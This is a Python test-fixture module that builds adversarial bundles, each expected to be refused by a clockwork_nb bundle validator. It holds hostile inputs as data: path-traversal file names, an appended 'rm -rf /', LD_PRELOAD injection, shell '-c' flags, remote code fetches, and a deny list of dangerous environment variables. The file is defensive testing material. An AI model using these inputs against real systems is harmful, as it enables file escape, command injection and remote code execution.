"""Bundles as an attacker (or a model that an attacker steers) would write them, each with the code it must get.

Made by code from one honest bundle, so that each case differs from it in one thing.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from msgspec.structs import replace

from clockwork_nb.forge.bundle import Bundle, BundleStep
from clockwork_nb.forge.bundle_limits import AGENT_LIMITS, TEMPLATE_LIMITS, Source
from clockwork_nb.ports import Artifact

PATH, RUNTIME, SCHEMA, MAPPING, LIMIT = (
    "E_BUNDLE_PATH",
    "E_BUNDLE_RUNTIME",
    "E_BUNDLE_SCHEMA",
    "E_BUNDLE_MAPPING",
    "E_BUNDLE_LIMIT",
)
SHA = "ab" * 32
SECRET = "hunter2-swordfish"


@dataclass(frozen=True)
class Case:
    """A bundle, the actions it pretends to carry out, and the code of the refusal."""

    name: str
    code: str
    bundle: Bundle
    actions: tuple[Mapping[str, Any], ...]
    source: Source = "template"

    @property
    def kind(self) -> str:
        """The class it counts for: paths, runtimes, mapping, limits, and what else the form forbids."""
        return {PATH: "P", RUNTIME: "R", MAPPING: "M", LIMIT: "L", SCHEMA: "S"}[self.code]


def action(identity: str) -> dict[str, Any]:
    address, _, name = identity.rpartition(":")
    return {"id": identity, "name": name, "address": address}


ACTIONS = (action("file.a:write_file"), action("service.web:ensure_service"), action("service.web:verify_http"))
SPEC = {
    "version": "1", "service": "service.web", "address": "service.web", "command": ["httpd"], "env": {},
    "secret_env": {}, "cwd": ".", "ports": [8080], "restart": "no", "stop_timeout_s": 10, "health": None,
    "state": "running",
}  # fmt: skip
WRITE = Artifact("scripts/file.a/write_file.sh", b'#!/bin/sh\ncat "$CW_CONTENT" > out/a\n', "0755", "write", "sh")
DATA = Artifact("scripts/file.a/content.txt", b"hello\n", "0644", "content", "data")
ENSURE = Artifact("scripts/service.web/ensure_service.json", json.dumps(SPEC).encode(), "0644", "spec", "json")
VERIFY = Artifact(
    "scripts/service.web/verify_http.py", b"#!/usr/bin/env python3\nprint(200)\n", "0755", "ask", "python"
)


def step(identity: str, *cmd: str, **more: Any) -> BundleStep:
    address, _, name = identity.rpartition(":")
    values: dict[str, Any] = {"interpreter": f"/usr/bin/{cmd[0]}", "interpreter_sha256": SHA}
    if cmd[0] == "cw:service":
        values = {"cls": "built-in"}
    return BundleStep(identity, name, address, cmd, **{**values, **more})


STEPS = (
    step(
        "file.a:write_file", "sh", WRITE.path, data={"CW_CONTENT": DATA.path}, write=("out",), vars={"CW_MODE": "0644"}
    ),
    step("service.web:ensure_service", "cw:service", "ensure", ENSURE.path),
    step("service.web:verify_http", "python3", "-I", VERIFY.path, "--times", "3", network=(8080,)),
)
HONEST = Bundle((WRITE, DATA, ENSURE, VERIFY), STEPS)


def with_artifact(index: int, **changes: Any) -> Bundle:
    artifacts = list(HONEST.artifacts)
    artifacts[index] = replace(artifacts[index], **changes)
    return replace(HONEST, artifacts=tuple(artifacts))


def with_step(index: int, **changes: Any) -> Bundle:
    steps = list(HONEST.steps)
    steps[index] = replace(steps[index], **changes)
    return replace(HONEST, steps=tuple(steps))


def at_path(path: str) -> Bundle:
    """The honest bundle with its first script under another path, consistently."""
    moved = with_artifact(0, path=path)
    return replace(moved, steps=(replace(STEPS[0], cmd=("sh", path)), *STEPS[1:]))


def more_artifacts(*extra: Artifact) -> Bundle:
    """The honest bundle with further data artifacts that its first step uses."""
    data = {**STEPS[0].data, **{f"CW_{i}": a.path for i, a in enumerate(extra)}}
    return replace(HONEST, artifacts=(*HONEST.artifacts, *extra), steps=(replace(STEPS[0], data=data), *STEPS[1:]))


def data(path: str, content: bytes = b"x") -> Artifact:
    return Artifact(path, content, "0644", "data", "data")


def spec_with(**changes: Any) -> Bundle:
    return with_artifact(2, content=json.dumps({**SPEC, **changes}).encode())


ESCAPES = {
    "parent": "../x.sh",
    "parent inside": "scripts/../../x.sh",
    "parent at the end": "scripts/..",
    "absolute": "/etc/cron.d/x",
    "absolute twice": "//etc/x",
    "home": "~/x.sh",
    "home below": "scripts/~root/x.sh",
    "backslash": "scripts\\..\\x.sh",
    "drive": "C:/x.sh",
    "drive relative": "c:x.sh",
    "nul": "scripts/a\0.sh",
    "newline": "scripts/a\n.sh",
    "escape sequence": "scripts/\x1b[31ma.sh",
    "right to left": "scripts/\u202ehs.txt",
    "zero width": "scripts/a\u200b.sh",
    "private use": "scripts/\ue000.sh",
    "lone surrogate": "scripts/\udc80.sh",
    "device": "scripts/con",
    "device with extension": "scripts/nul.sh",
    "device superscript": "scripts/com\u00b9.sh",
    "device upper": "scripts/AUX.sh",
    "trailing dot": "scripts/a.",
    "trailing space": "scripts/a ",
    "leading space": "scripts/ a",
    "empty": "",
    "empty part": "scripts//a.sh",
    "dot part": "scripts/./a.sh",
    "dot": ".",
    "trailing slash": "scripts/a/",
    "hidden": "scripts/.bashrc",
    "our record": ".generated.json",
    "option": "-rf",
    "option below": "scripts/--help",
    "star": "scripts/*.sh",
    "stream": "scripts/a.sh:x",
    "241 bytes": "scripts/a/" + "a" * 99 + "/" + "b" * 99 + "/" + "c" * 31,
    "part of 101 bytes": "scripts/" + "a" * 101,
    "our state": ".clockwork/state.json",
    "line separator": "scripts/a\u2028b.sh",
    "fullwidth dots": "\uff0e\uff0e/\u2064x.sh",
    "nine parts": "/".join("abcdefghi"),
    "decomposed": "scripts/e\u0301.sh",
}

ARGV: dict[str, tuple[str, ...]] = {
    "unknown runtime": ("perl", WRITE.path),
    "env": ("env", "sh", WRITE.path),
    "sudo": ("sudo", "sh", WRITE.path),
    "busybox": ("busybox", "sh", WRITE.path),
    "absolute runtime": ("/bin/sh", WRITE.path),
    "relative runtime": ("./sh", WRITE.path),
    "runtime with a space": ("sh -c", WRITE.path),
    "variable before": ("LD_PRELOAD=/x.so", "sh", WRITE.path),
    "sh -c": ("sh", "-c", WRITE.path),
    "sh -ec": ("sh", "-ec", WRITE.path),
    "sh -s": ("sh", "-s", WRITE.path),
    "sh -i": ("sh", "-i", WRITE.path),
    "bash --rcfile": ("bash", "--rcfile", WRITE.path),
    "bash --init-file": ("bash", "--init-file=/x", WRITE.path),
    "python -c": ("python3", "-c", WRITE.path),
    "python -m": ("python3", "-m", "pip", WRITE.path),
    "python -Ic": ("python3", "-Ic", WRITE.path),
    "python -X": ("python3", "-Xfrozen_modules=off", WRITE.path),
    "python -": ("python3", "-", WRITE.path),
    "deno -A": ("deno", "run", "-A", WRITE.path),
    "deno --allow-all": ("deno", "run", "--allow-all", WRITE.path),
    "deno --allow-run": ("deno", "run", "--allow-run", WRITE.path),
    "deno --allow-run=sh": ("deno", "run", "--allow-run=sh", WRITE.path),
    "deno --allow-ffi": ("deno", "run", "--allow-ffi=/x.so", WRITE.path),
    "deno --allow-read": ("deno", "run", "--allow-read", WRITE.path),
    "deno --import-map": ("deno", "run", "--import-map=http://x/m.json", WRITE.path),
    "deno eval": ("deno", "eval", WRITE.path),
    "deno url": ("deno", "run", "https://x/a.ts"),
    "go run url": ("go", "run", "example.com/x@latest"),
    "go -exec": ("go", "run", "-exec=/x", WRITE.path),
    "go tool": ("go", "tool", WRITE.path),
    "no script": ("sh",),
    "flags only": ("sh", "-e"),
    "no words": (),
    "script and more code": ("sh", f"{WRITE.path}; rm -rf /"),
    "script outside the bundle": ("sh", "scripts/other.sh"),
    "script elsewhere": ("sh", "/etc/profile"),
    "newline in a word": ("sh", WRITE.path, "a\nb"),
    "nul in a word": ("sh", WRITE.path, "a\0b"),
    "script twice": ("sh", WRITE.path, WRITE.path),
    "data as script": ("sh", DATA.path),
    "other language": ("python3", WRITE.path),
}

NAMES = (
    "LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "PYTHONPATH", "PYTHONSTARTUP", "BASH_ENV", "ENV", "PATH",
    "IFS", "SHELLOPTS", "PS4", "BASH_FUNC_ls", "CW_FENCING_TOKEN", "CW_IDEMPOTENCY_KEY",
)  # fmt: skip


def cases() -> Iterator[Case]:
    """Yield every case."""
    for make in (_paths, _argv, _mapping, _content, _environment, _services, _limits, _agents):
        yield from make()


def _case(name: str, code: str, bundle: Bundle, actions: tuple[Mapping[str, Any], ...] = ACTIONS) -> Case:
    return Case(name, code, bundle, actions)


def _paths() -> Iterator[Case]:
    for name, path in ESCAPES.items():
        yield _case(f"path {name}", PATH, at_path(path))
    yield _case("path twice", PATH, more_artifacts(data("scripts/a.txt"), data("scripts/a.txt")))
    yield _case("path case", PATH, more_artifacts(data("scripts/a.txt"), data("scripts/A.txt")))
    yield _case("path folded", PATH, more_artifacts(data("scripts/stra\u00dfe"), data("scripts/STRASSE")))
    yield _case("path below a file", PATH, more_artifacts(data("scripts/a"), data("scripts/a/b")))
    yield _case("path is a folder", PATH, more_artifacts(data("scripts/a/b"), data("scripts/A")))
    yield _case("cwd with a line break", PATH, with_step(0, cwd="a\nb"))
    yield _case("write with a nul", PATH, with_step(0, write=("a\0b",)))
    yield _case("write nowhere", PATH, with_step(0, write=("",)))


def _argv() -> Iterator[Case]:
    for name, cmd in ARGV.items():
        interpreter = f"/usr/bin/{cmd[0]}" if cmd else ""
        yield _case(f"argv {name}", RUNTIME, with_step(0, cmd=cmd, interpreter=interpreter))
    other = with_artifact(0, lang="go", content=b"package main\n")
    words = ("go", "run", WRITE.path, "/tmp/more.go")
    yield _case("go with another file", RUNTIME, replace(other, steps=(step(STEPS[0].id, *words), *STEPS[1:])))
    yield _case("interpreter missing", RUNTIME, with_step(0, interpreter=""))
    yield _case("interpreter relative", RUNTIME, with_step(0, interpreter="bin/sh"))
    yield _case("interpreter other", RUNTIME, with_step(0, interpreter="/usr/bin/perl"))
    yield _case("interpreter unhashed", RUNTIME, with_step(0, interpreter_sha256=""))
    yield _case("shebang other", RUNTIME, with_artifact(0, content=b"#!/usr/bin/perl\nexit 0\n"))
    yield _case("shebang bash for sh", RUNTIME, with_artifact(0, content=b"#!/bin/bash\nexit 0\n"))
    yield _case("shebang env -S", RUNTIME, with_artifact(0, content=b"#!/usr/bin/env -S perl -e\nexit 0\n"))
    yield _case("built-in as confined", RUNTIME, with_step(1, cls="confined"))
    yield _case("script as built-in", RUNTIME, with_step(0, cls="built-in"))
    yield _case("built-in verb", RUNTIME, with_step(1, cmd=("cw:service", "exec", ENSURE.path)))
    yield _case("built-in words", RUNTIME, with_step(1, cmd=("cw:service", "ensure", ENSURE.path, "x")))
    yield _case("built-in spec missing", RUNTIME, with_step(1, cmd=("cw:service", "ensure", "scripts/x.json")))
    yield _case("built-in spec is a script", RUNTIME, with_step(1, cmd=("cw:service", "ensure", VERIFY.path)))


def _mapping() -> Iterator[Case]:
    extra = step("file.b:write_file", "sh", WRITE.path)
    yield _case("step without action", MAPPING, replace(HONEST, steps=(*STEPS, extra)))
    yield _case("action without step", MAPPING, HONEST, (*ACTIONS, action("file.b:write_file")))
    yield _case("step twice", MAPPING, replace(HONEST, steps=(*STEPS, STEPS[0])))
    yield _case("reordered", MAPPING, replace(HONEST, steps=(STEPS[1], STEPS[0], STEPS[2])))
    yield _case("other purpose", MAPPING, with_step(0, purpose="write_files"))
    yield _case("purpose look-alike", MAPPING, with_step(0, purpose="write_f\u0456le"))
    yield _case("other address", MAPPING, with_step(0, address="file.b"))
    yield _case("id look-alike", MAPPING, with_step(0, id="file.\u0430:write_file"))
    yield _case("extra check", MAPPING, replace(HONEST, steps=(*STEPS, replace(STEPS[2], id="service.web:verify_all"))))
    yield _case("no actions", MAPPING, HONEST, ())
    yield _case("no steps", MAPPING, Bundle((), ()))
    yield _case("steps of two plans", MAPPING, HONEST, (ACTIONS[0], ACTIONS[2]))
    yield _case("check left out", MAPPING, replace(HONEST, artifacts=HONEST.artifacts[:3], steps=STEPS[:2]))
    yield _case(
        "check done twice instead",
        MAPPING,
        replace(HONEST, artifacts=HONEST.artifacts[:3], steps=(*STEPS[:2], STEPS[1])),
    )


def _content() -> Iterator[Case]:
    yield _case("mode 0777", SCHEMA, with_artifact(0, mode="0777"))
    yield _case("mode 4755", SCHEMA, with_artifact(0, mode="4755"))
    yield _case("lang unknown", SCHEMA, with_artifact(1, lang="php"))
    yield _case("artifact unused", SCHEMA, replace(HONEST, artifacts=(*HONEST.artifacts, data("scripts/spare"))))
    yield _case("shell syntax", SCHEMA, with_artifact(0, content=b"#!/bin/sh\nif true; then\n"))
    yield _case("python syntax", SCHEMA, with_artifact(3, content=b"def f(:\n"))
    yield _case("python bomb", SCHEMA, with_artifact(3, content=b"-" * 500_000 + b"1"))
    yield _case("script with nul", SCHEMA, with_artifact(0, content=b"echo a\0b\n"))
    yield _case("script not utf-8", SCHEMA, with_artifact(0, content=b"echo \xff\xfe\n"))
    yield _case("script empty", SCHEMA, with_artifact(0, content=b" \n"))
    forms: dict[str, Callable[[str], bytes]] = {
        "plain": str.encode,
        "base64": lambda s: base64.b64encode(s.encode()),
        "hex": lambda s: s.encode().hex().encode(),
    }
    for name, form in forms.items():
        holding = with_artifact(1, content=b"x " + form(SECRET) + b"\n")
        yield _case(f"secret {name}", SCHEMA, replace(holding, secrets={"s": SECRET}))
    yield _case("secret in a variable", SCHEMA, replace(with_step(0, vars={"X": SECRET}), secrets={"s": SECRET}))
    yield _case(
        "secret in a word", SCHEMA, replace(with_step(0, cmd=("sh", WRITE.path, SECRET)), secrets={"s": [SECRET]})
    )


def _environment() -> Iterator[Case]:
    for name in NAMES:
        yield _case(f"variable {name}", RUNTIME, with_step(0, vars={name: "x"}))
    yield _case(
        "secret variable LD_PRELOAD",
        RUNTIME,
        replace(with_step(0, secret_vars={"LD_PRELOAD": "s"}), secrets={"s": "value"}),
    )
    yield _case("variable name", SCHEMA, with_step(0, vars={"A B": "x"}))
    yield _case("variable with =", SCHEMA, with_step(0, vars={"A=B": "x"}))
    yield _case("variable with nul", SCHEMA, with_step(0, vars={"A": "x\0y"}))
    yield _case("variable twice", SCHEMA, with_step(0, vars={"CW_CONTENT": "x"}))
    yield _case("data undeclared", SCHEMA, with_step(0, data={**STEPS[0].data, "X": "scripts/none"}))
    yield _case("data is a script", SCHEMA, with_step(0, data={**STEPS[0].data, "X": VERIFY.path}))
    yield _case("secret unknown", SCHEMA, with_step(0, secret_vars={"X": "nobody"}))
    yield _case("port 0", SCHEMA, with_step(2, network=(0,)))
    yield _case("port 65536", SCHEMA, with_step(2, network=(65536,)))
    yield _case("class unknown", RUNTIME, with_step(1, cls="root"))


def _services() -> Iterator[Case]:
    yield _case("spec not json", SCHEMA, with_artifact(2, content=b"{'a': 1}"))
    yield _case("spec key twice", SCHEMA, with_artifact(2, content=b'{"service": "a", "service": "b"}'))
    yield _case("spec of another service", MAPPING, spec_with(service="service.db"))
    yield _case("spec of another address", MAPPING, spec_with(address="service.db"))
    yield _case("spec unknown key", SCHEMA, spec_with(user="root"))
    yield _case("spec wrong type", SCHEMA, spec_with(command="httpd"))
    yield _case("spec stopped", SCHEMA, spec_with(state="stopped"))
    yield _case("spec secret unknown", SCHEMA, spec_with(secret_env={"X": "nobody"}))


def _limits() -> Iterator[Case]:
    big = TEMPLATE_LIMITS.vars_bytes
    yield _case("variables too large", LIMIT, with_step(0, vars={"A": "x" * big}))
    yield _case("word too large", LIMIT, with_step(0, cmd=("sh", WRITE.path, "x" * (TEMPLATE_LIMITS.word_bytes + 1))))
    yield _case(
        "too many inputs", LIMIT, more_artifacts(*(data(f"scripts/{i}") for i in range(TEMPLATE_LIMITS.inputs)))
    )
    yield _case("purpose too long", LIMIT, with_artifact(0, purpose="x" * (TEMPLATE_LIMITS.purpose_bytes + 1)))


def _agents() -> Iterator[Case]:
    def agent(name: str, code: str, bundle: Bundle, actions: tuple[Mapping[str, Any], ...]) -> Case:
        return Case(f"agent {name}", code, bundle, actions, "agent")

    pair = Bundle((WRITE, DATA), STEPS[:1])
    one = ACTIONS[:1]
    yield agent("host step", RUNTIME, replace(pair, steps=(replace(STEPS[0], cls="host"),)), one)
    yield agent("writes elsewhere", PATH, replace(pair, steps=(replace(STEPS[0], write=("../x",)),)), one)
    yield agent("writes absolute", PATH, replace(pair, steps=(replace(STEPS[0], write=("/etc",)),)), one)
    yield agent("cwd elsewhere", PATH, replace(pair, steps=(replace(STEPS[0], cwd="/"),)), one)
    yield agent("writes our folder", PATH, replace(pair, steps=(replace(STEPS[0], write=(".clockwork/x",)),)), one)
    yield agent(
        "writes ours in capitals", PATH, replace(pair, steps=(replace(STEPS[0], write=("a/.CLOCKWORK",)),)), one
    )
    yield agent("writes home", PATH, replace(pair, steps=(replace(STEPS[0], write=("~/x",)),)), one)
    roots = tuple(f"o/{i}" for i in range(AGENT_LIMITS.write_roots + 1))
    yield agent("257 write roots", LIMIT, replace(pair, steps=(replace(STEPS[0], write=roots),)), one)
    yield agent(
        "257 files", LIMIT, replace(pair, artifacts=(*pair.artifacts, *(data(f"scripts/{i}") for i in range(255)))), one
    )
    yield agent(
        "a file too large",
        LIMIT,
        replace(pair, artifacts=(WRITE, replace(DATA, content=bytes(AGENT_LIMITS.file_bytes + 1)))),
        one,
    )
    whole = tuple(data(f"scripts/{i}", bytes(1 << 20)) for i in range(16))
    yield agent("too large together", LIMIT, replace(pair, artifacts=(*pair.artifacts, *whole)), one)
    yield agent("513 steps", LIMIT, replace(pair, steps=STEPS[:1] * 513), one)
